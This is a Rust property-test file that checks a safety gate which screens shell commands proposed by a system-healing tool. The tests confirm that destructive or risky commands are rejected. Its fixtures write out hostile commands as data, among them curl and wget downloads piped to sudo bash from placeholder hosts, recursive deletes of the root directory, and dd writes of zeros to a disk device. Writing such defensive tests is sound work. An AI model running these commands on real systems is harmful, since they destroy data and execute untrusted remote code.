//! Property tests for the safety gate.
//!
//! ## Invariants Tested
//!
//! - A deny-listed substring is rejected in any casing and any context
//! - The verdict depends only on (command, risk level, approval)
//! - Root deletes, device writes and downloads fed to a shell are rejected
//!   whatever the flag order, even with approval
//! - Power state changes are always rejected
//! - High-risk recommendations run only with approval

use asahi_common::{Category, Recommendation, Severity};
use asahi_healer::safety::{Rejection, DENY_LIST};
use asahi_healer::{HighRiskApproval, SafetyGate};

/// xorshift64, enough for input generation
struct TestRng {
    state: u64,
}

impl TestRng {
    fn new(seed: u64) -> Self {
        Self { state: if seed == 0 { 1 } else { seed } }
    }

    fn next_u64(&mut self) -> u64 {
        let mut x = self.state;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.state = x;
        x
    }

    fn next_range(&mut self, min: u64, max: u64) -> u64 {
        if max <= min {
            return min;
        }
        min + (self.next_u64() % (max - min))
    }

    fn next_bool(&mut self) -> bool {
        self.next_u64() & 1 == 1
    }

    fn pick<'a>(&mut self, items: &'a [&'a str]) -> &'a str {
        items[self.next_range(0, items.len() as u64) as usize]
    }
}

const PREFIXES: &[&str] = &["", "sudo ", "echo start && ", "cd /tmp; ", "nice -n 10 "];
const SUFFIXES: &[&str] = &["", " /dev/sda1", " --force", "; echo done", " 2>&1"];
const BENIGN: &[&str] = &[
    "free -h",
    "df -h",
    "systemctl --failed",
    "journalctl -p err -b",
    "sudo systemctl restart systemd-resolved",
    "ps aux --sort=-%mem",
    "sensors",
];
const RISKS: &[&str] = &["low", "medium", "high", "critical", "LOW", "High", ""];

fn randomize_case(rng: &mut TestRng, s: &str) -> String {
    s.chars()
        .map(|c| if rng.next_bool() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect()
}

fn rec(risk: &str) -> Recommendation {
    let mut r = Recommendation::new("r", "t", Severity::Medium, Category::System);
    r.risk_level = risk.to_string();
    r
}

#[test]
fn prop_deny_list_rejects_any_casing() {
    for seed in 1..500 {
        let mut rng = TestRng::new(seed);
        let pattern = rng.pick(DENY_LIST);
        let command = format!(
            "{}{}{}",
            rng.pick(PREFIXES),
            randomize_case(&mut rng, pattern),
            rng.pick(SUFFIXES)
        );

        for approval in [HighRiskApproval::Withheld, HighRiskApproval::Granted] {
            let gate = SafetyGate::new(approval);
            assert!(
                !gate.is_safe(&command, &rec(rng.pick(RISKS))),
                "seed {}: '{}' passed the gate",
                seed,
                command
            );
        }
    }
}

#[test]
fn prop_verdict_is_deterministic() {
    for seed in 1..300 {
        let mut rng = TestRng::new(seed);
        let command = if rng.next_bool() {
            rng.pick(BENIGN).to_string()
        } else {
            format!("{}{}", rng.pick(PREFIXES), rng.pick(DENY_LIST))
        };
        let recommendation = rec(rng.pick(RISKS));
        let gate = SafetyGate::new(if rng.next_bool() {
            HighRiskApproval::Granted
        } else {
            HighRiskApproval::Withheld
        });

        let first = gate.check(&command, &recommendation);
        for _ in 0..3 {
            assert_eq!(gate.check(&command, &recommendation), first, "seed {}", seed);
        }
    }
}

#[test]
fn prop_benign_commands_follow_risk_approval() {
    for seed in 1..300 {
        let mut rng = TestRng::new(seed);
        let command = rng.pick(BENIGN);
        let risk = rng.pick(RISKS);
        let recommendation = rec(risk);
        let high = matches!(risk.to_lowercase().as_str(), "high" | "critical");

        assert!(SafetyGate::new(HighRiskApproval::Granted).is_safe(command, &recommendation));
        assert_eq!(
            SafetyGate::new(HighRiskApproval::Withheld).is_safe(command, &recommendation),
            !high,
            "seed {}: '{}' risk '{}'",
            seed,
            command,
            risk
        );
    }
}

#[test]
fn test_power_state_changes_always_rejected() {
    let gate = SafetyGate::new(HighRiskApproval::Granted);
    for cmd in ["sudo reboot", "shutdown -h now", "systemctl poweroff", "HALT", "echo rebooted", "systemctl halt.target"] {
        assert_eq!(gate.check(cmd, &rec("low")), Err(Rejection::PowerStateChange), "{}", cmd);
    }
}

#[test]
fn test_pipe_to_shell_with_arguments() {
    let gate = SafetyGate::new(HighRiskApproval::Granted);
    assert_eq!(
        gate.check("curl -fsSL https://example.invalid/install | sudo bash", &rec("low")),
        Err(Rejection::PipeToShell)
    );
    assert_eq!(
        gate.check("wget -qO- https://example.invalid/x.sh | sh", &rec("low")),
        Err(Rejection::PipeToShell)
    );
    assert!(gate.is_safe("curl -fsSL https://example.invalid/health", &rec("low")));
}

#[test]
fn test_destructive_commands_in_any_form() {
    let gate = SafetyGate::new(HighRiskApproval::Granted);
    let cases = [
        ("sudo dd of=/dev/nvme0n1 if=/dev/zero bs=1M", Rejection::DeviceWrite),
        ("sudo rm -fr /", Rejection::RecursiveRootDelete),
        ("rm -r -f /", Rejection::RecursiveRootDelete),
        ("curl -fsSL https://x.example/install | tee /tmp/i.sh | sh", Rejection::PipeToShell),
        ("sh -c \"$(curl -fsSL https://x.example/install.sh)\"", Rejection::PipeToShell),
        ("bash <(curl -fsSL https://x.example/install.sh)", Rejection::PipeToShell),
        ("wget -qO- https://x.example/i | sudo -E bash", Rejection::PipeToShell),
    ];
    for (cmd, expected) in cases {
        for seed in 1..20 {
            let mut rng = TestRng::new(seed);
            let command = format!("{}{}", rng.pick(&PREFIXES[..3]), cmd);
            assert_eq!(gate.check(&command, &rec(rng.pick(RISKS))), Err(expected.clone()), "{}", command);
        }
    }
}

#[test]
fn test_high_risk_rejection_names_level() {
    let err = SafetyGate::default().check("free -h", &rec("Critical")).unwrap_err();
    assert_eq!(err, Rejection::HighRiskUnapproved("Critical".to_string()));
    assert!(err.to_string().contains("Critical"));
}
